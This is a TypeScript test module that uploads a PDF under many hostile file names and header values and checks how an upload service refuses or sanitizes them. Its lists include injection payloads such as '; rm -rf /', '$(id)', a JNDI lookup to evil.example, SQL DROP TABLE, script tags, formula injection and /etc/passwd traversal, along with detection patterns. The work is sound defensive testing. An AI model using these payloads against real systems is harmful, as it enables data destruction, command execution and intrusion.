// Uploads a valid file under hostile names: false extensions, path traversal, device names, header injection, and invisible or
// unusual characters. Checks the responses and the names that the funding service receives.

import { apiHeaders } from '../../../shared/api/paths.ts';
import type { Answer } from '../../support/applicant.ts';
import { isProblem, startBff } from '../../support/bff.ts';
import { toBytes } from '../../support/files/bytes.ts';
import { writePdfText } from '../../support/files/pdf.ts';
import { unlimited } from '../../support/unlimited.ts';

const bidiMarks = '061c 200e 200f 202a 202b 202c 202d 202e 2066 2067 2068 2069'.split(' ');
const unseen =
  '00ad 034f 115f 1160 17b4 17b5 180b 180e 200b 200c 200d 2060 2061 2062 2063 2064 2800 3164 fe00 feff ffa0 fff9 e0001 e0041 e007f e0100'.split(
    ' ',
  );
const blanks = '00a0 1680 2000 2003 2007 2009 2028 2029 202f 205f 3000'.split(' ');
/** Characters that some systems convert to slashes, dots, colons, and quotes. */
const lookAlikes =
  '2024 2025 2026 2044 2100 2105 2215 2216 29f5 29f8 2a74 fe13 fe55 fe68 ff02 ff0a ff0e ff0f ff1a ff1c ff1e ff1f ff3c ff5c'.split(
    ' ',
  );
const devices =
  'CON con Con PRN AUX NUL nul CLOCK$ CONIN$ CONOUT$ COM0 COM1 COM9 COM¹ LPT1 LPT9 LPT³'.split(' ');
const dangerousEnds = 'exe scr js vbs html svg php htaccess lnk bat'.split(' ');

/** Without the extension. The tests append `.pdf`. */
export const hostileNames: readonly string[] = [
  ...bidiMarks.map((code) => `invoice${toCharacter(code)}fdp.exe`),
  ...unseen.flatMap((code) => [`a${toCharacter(code)}b`, toCharacter(code)]),
  ...blanks.flatMap((code) => [`a${toCharacter(code)}b`, toCharacter(code)]),
  ...lookAlikes.flatMap((code) => {
    const sign = toCharacter(code);
    return [`..${sign}..${sign}etc${sign}passwd`, `${sign}a`, `a${sign}`];
  }),
  ...devices.flatMap((device) => [
    device,
    `${device} `,
    `${device}.txt`,
    ` ${device}`,
    `${device}\u200b`,
  ]),
  ...dangerousEnds.map((end) => `statement.${end}`),
  ...Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`),
  ...['\x7f', '\x80', '\x85', '\x9b'].map((control) => `a${control}b`),
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '\\\\evil.example\\share\\a',
  'C:\\a',
  'C:a',
  'file:///etc/passwd',
  'a/../b',
  './a',
  '~/a',
  '~root',
  '.',
  '..',
  '...',
  '. . .',
  '.htaccess',
  '.ssh/authorized_keys',
  'a::$DATA',
  'a:b:c',
  '%2e%2e%2fetc',
  '%252e%252e%252f',
  '%00',
  '%0d%0aSet-Cookie: a=b',
  '%u002e',
  '%c0%ae',
  '100%',
  '%%',
  '%s%s%n',
  'a\r\nSet-Cookie: b=c',
  'a\nb',
  'a\r\n\r\n<html>',
  '"; filename="evil.exe',
  "'; DROP TABLE documents; --",
  '$(id)',
  '`id`',
  '; rm -rf /',
  '| cat',
  '&& dir',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'a\u2028alert(1)',
  '=cmd|calc',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '--help',
  '-rf',
  '\t=1',
  'Cafe\u0301',
  'e\u200b\u0301',
  'a\u200d\u030a',
  '\u1100\u1161\u11a8',
  '\u212b',
  '\ufb01le',
  '\u0130',
  'ﬀ',
  '\u0344',
  '\u2126',
  '\ud83d',
  '\udcc4',
  'a\ud83d',
  '\udcc4\ud83d',
  '\ud83d\u200b\udcc4',
  '\ufffd',
  '\ufffe',
  '\uffff',
  '\u{1fffe}',
  '\u{10ffff}',
  '\ue000',
  '\u{f0000}',
  '👩‍👩‍👧',
  '📄'.repeat(60),
  `${'a'.repeat(79)}📄`,
  '🏳️‍🌈',
  '1️⃣',
  'שלום',
  'مرحبا',
  'Z̷̢̛'.repeat(20),
  'a'.repeat(1000),
  '.'.repeat(300),
  ' '.repeat(300),
  `${'a'.repeat(79)}.exe`,
  `con${'.'.repeat(90)}`,
  `${' '.repeat(90)}con`,
  '',
  'statement',
];

/** Values of the header that no browser sends. */
export const hostileHeaders: readonly string[] = [
  '%',
  '%zz',
  '%f',
  '%ff%fe.pdf',
  '%c0%af.pdf',
  '%ed%a0%80.pdf',
  '%f5%80%80%80.pdf',
  '%00.pdf',
  '%00%00%00',
  '%20',
  '%e2%80%8b',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd.pdf',
  '..%5c..%5ca.pdf',
  '%0d%0aX-Evil:%201.pdf',
  "UTF-8''a.pdf",
  '=?utf-8?Q?a?=.pdf',
  '"a.pdf"',
  'a.pdf;b.exe',
  'a.pdf,b.pdf',
  `${'a'.repeat(4093)}.pdf`,
  `${'%61'.repeat(1200)}.pdf`,
];

function toCharacter(code: string): string {
  return String.fromCodePoint(Number.parseInt(code, 16));
}

/** Unsafe on at least one system. */
const unsafePatterns: readonly (readonly [string, RegExp])[] = [
  ['a character of paths, drives, patterns, or markup', /[/\\:*?"<>|]/],
  ['a control character', /\p{Cc}/u],
  ['an invisible character', /[\p{Cf}\p{DI}\u2800]/u],
  ['a lone surrogate, or a code that is not a character', /[\p{Cs}\p{NChar}\ufffd]/u],
  ['white space other than a space', /(?! )\s/u],
  ['a prefix of hidden files, options, or formulas', /^[.\-\s=+@~]/],
  ['a suffix that Windows removes', /[.\s]$/],
  ['a percent escape', /%[0-9a-f]{2}/i],
  ['a device name', /^(con|prn|aux|nul|clock\$|conin\$|conout\$|(com|lpt)[0-9¹²³])\s*(\.|$)/i],
  ['too many characters', /^.{81}/s],
  ['no characters', /^$/],
];

/** Returns what is unsafe in a stored name. */
export function findNameFaults(name: string): string[] {
  const faults = unsafePatterns.filter(([, pattern]) => pattern.test(name)).map(([what]) => what);
  if (name.normalize('NFC') !== name) faults.push('a spelling that is not normalized');
  // A system may convert the name to a smaller character set.
  if (/[/\\:*?"<>|]/.test(name.normalize('NFKC')))
    faults.push('a character that becomes an unsafe one');
  return faults.map((what) => `${JSON.stringify(name)} has ${what}`);
}

export interface NamesResult {
  readonly names: number;
  readonly refused: number;
  readonly problems: readonly string[];
}

/** The number of files of an application is limited. */
const filesPerApplication = 50;

/** @param step 1 runs all names, 2 every second one, and so on. */
export async function runHostileNames(step = 1): Promise<NamesResult> {
  const headers = listHeaders().filter((_, index) => index % step === 0);
  const problems: string[] = [];
  let refused = 0;
  for (let start = 0; start < headers.length; start += filesPerApplication) {
    const bff = await startBff({
      settings: { documents: { maxFiles: filesPerApplication, undoSeconds: 0 }, limits: unlimited },
    });
    const browser = bff.openBrowser();
    await browser.apply();
    for (const header of headers.slice(start, start + filesPerApplication)) {
      const content = toBytes(`${writePdfText()}${' '.repeat(headers.indexOf(header))}`);
      const answer = await browser.upload(new Uint8Array(content), 'a', {
        [apiHeaders.documentName]: header,
      });
      const sent = [...bff.sandbox.context.state.documents.values()].at(-1);
      bff.sandbox.context.state.documents.clear();
      if (answer.status >= 400) refused += 1;
      const found = answer.status < 400 ? checkAccepted(answer, sent) : checkRefused(answer, sent);
      problems.push(...found.map((problem) => `${JSON.stringify(header)}: ${problem}`));
    }
    await bff.close();
  }
  return { names: headers.length, refused, problems };
}

interface Sent {
  readonly name: string;
  readonly ext: string;
}

function checkAccepted(answer: Answer, sent: Sent | undefined): string[] {
  if (!sent) return ['accepted, but not sent'];
  const problems = findNameFaults(sent.name);
  if (sent.ext !== 'pdf') problems.push(`sent as .${sent.ext}`);
  const shownName: unknown = answer.json.name;
  if (shownName !== `${sent.name}.${sent.ext}`)
    problems.push('the response contains another name than was sent');
  return problems;
}

function checkRefused(answer: Answer, sent: Sent | undefined): string[] {
  const codes = [
    'document-name-invalid',
    'document-type-refused',
    'document-type-mismatch',
  ] as const;
  const isListed = codes.some((code) => isProblem(answer, code));
  return [
    ...(isListed ? [] : [`refused with ${answer.status}`]),
    ...(sent ? ['refused, but sent'] : []),
  ];
}

/** Encodes the name as the element does. `Buffer` replaces lone surrogates, which the element does not send. */
function toHeader(name: string): string {
  return encodeURIComponent(Buffer.from(name).toString());
}

function listHeaders(): string[] {
  const headers = [
    ...hostileNames.map((name) => toHeader(`${name}.pdf`)),
    ...hostileNames.filter((name) => name.includes('.')).map(toHeader),
    ...hostileHeaders,
  ];
  return [...new Set(headers)];
}
